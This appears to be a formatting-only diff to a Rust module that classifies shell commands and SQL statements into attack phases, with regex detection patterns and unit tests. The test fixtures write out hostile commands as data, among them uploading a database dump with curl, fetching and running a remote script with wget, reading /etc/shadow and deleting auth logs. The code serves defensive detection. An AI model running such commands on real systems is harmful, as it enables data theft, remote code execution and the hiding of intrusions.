@@ -125,14 +125,19 @@ pub fn of_statement(sql: &str) -> Option<Phase> {
                 Phase::Collection,
                 r"(?i)\binto\s+(out|dump)file\b|\bload_file\s*\(|\bcopy\s+.*\bto\s+'|\bselect\b.*\bfrom\s+\S*(users|customers|accounts|credit|orders)\b",
             ),
-            r(Phase::Impact, r"(?i)\b(drop\s+(table|database)|truncate\s+table)\b"),
+            r(
+                Phase::Impact,
+                r"(?i)\b(drop\s+(table|database)|truncate\s+table)\b",
+            ),
             r(
                 Phase::Persistence,
                 r"(?i)\b(create\s+user|grant\s+all|alter\s+user)\b",
             ),
         ]
     });
-    SETS.iter().find(|(_, re)| re.is_match(sql)).map(|(p, _)| *p)
+    SETS.iter()
+        .find(|(_, re)| re.is_match(sql))
+        .map(|(p, _)| *p)
 }
 
 #[cfg(test)]
@@ -145,10 +150,16 @@ mod tests {
             ("/usr/bin/bash -c history -c", Phase::DefenseEvasion),
             ("bash -c history -c", Phase::DefenseEvasion),
             ("rm -f /var/log/auth.log", Phase::DefenseEvasion),
-            ("curl -s -T /tmp/shop.sql http://203.0.113.200/up", Phase::Exfiltration),
+            (
+                "curl -s -T /tmp/shop.sql http://203.0.113.200/up",
+                Phase::Exfiltration,
+            ),
             ("scp /tmp/db.tgz u@198.51.100.9:/x", Phase::Exfiltration),
             ("ssh deploy@10.0.0.6", Phase::LateralMovement),
-            ("/usr/bin/wget -q http://203.0.113.200/x.sh -O /tmp/.x.sh", Phase::Execution),
+            (
+                "/usr/bin/wget -q http://203.0.113.200/x.sh -O /tmp/.x.sh",
+                Phase::Execution,
+            ),
             ("/bin/sh /tmp/.x.sh", Phase::Execution),
             ("mysqldump -u root shop", Phase::Collection),
             ("cat /etc/shadow", Phase::CredentialAccess),
@@ -167,7 +178,10 @@ mod tests {
         );
         assert_eq!(of_statement("DROP TABLE orders"), Some(Phase::Impact));
         assert_eq!(of_statement("SELECT 1"), None);
-        assert_eq!(Phase::from_tag("attack.initial_access"), Some(Phase::InitialAccess));
+        assert_eq!(
+            Phase::from_tag("attack.initial_access"),
+            Some(Phase::InitialAccess)
+        );
         assert_eq!(Phase::from_tag("attack.t1110"), None);
         assert_eq!(Phase::from_tag("cve.2021-44228"), None);
     }
